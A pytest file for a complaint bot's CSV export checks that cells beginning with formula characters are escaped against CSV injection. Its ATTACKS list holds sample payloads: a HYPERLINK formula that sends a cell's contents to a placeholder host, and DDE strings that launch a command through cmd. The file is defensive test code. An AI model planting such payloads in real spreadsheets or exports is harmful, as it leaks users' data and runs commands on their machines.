"""CSV cells never start a formula (OWASP CSV injection)."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from bot import cli
from bot.services.spreadsheet import safe_cell
from tests.conftest import ADMIN, Harness
from tests.handlers.test_complaint_flow import file_complaint

ATTACKS = [
    '=HYPERLINK("http://x.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", ATTACKS)
def test_a_cell_that_would_start_a_formula_is_quoted(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Sampah di TPS", "", "DS-7K4P2Q", 3.59, -3.59, 5, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert safe_cell(value) == value


def no_formula(data: str) -> list[str]:
    """Every cell of the CSV that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(data))
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


async def file_attacks(bot: Harness) -> None:
    await file_complaint(bot, description=ATTACKS[0] + " sampah menumpuk di pasar")
    await file_complaint(bot, description="@SUM(1+1) sampah tidak diangkut seminggu")


async def test_ekspor_neutralises_formulas(bot: Harness) -> None:
    await file_attacks(bot)
    for command in ("/ekspor", "/ekspor pribadi"):
        calls = await bot.simulator.send(command, ADMIN)
        [document] = [c for c in calls if c.method == "sendDocument"]
        data = document.files["document"].decode("utf-8")
        assert no_formula(data) == [] and "'=HYPERLINK(" in data and "'@SUM(1+1)" in data


async def test_bot_export_neutralises_formulas(
    bot: Harness, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    await file_attacks(bot)
    monkeypatch.setenv("BOT_DATABASE_PATH", str(bot.services.settings.database_path))
    out = tmp_path / "pengaduan.csv"
    # The command line opens its own connection and runs its own event loop.
    code = await asyncio.to_thread(cli.main, ["export", "--personal", "--out", str(out)])
    data = out.read_text(encoding="utf-8")
    assert code == 0 and no_formula(data) == [] and "'=HYPERLINK(" in data
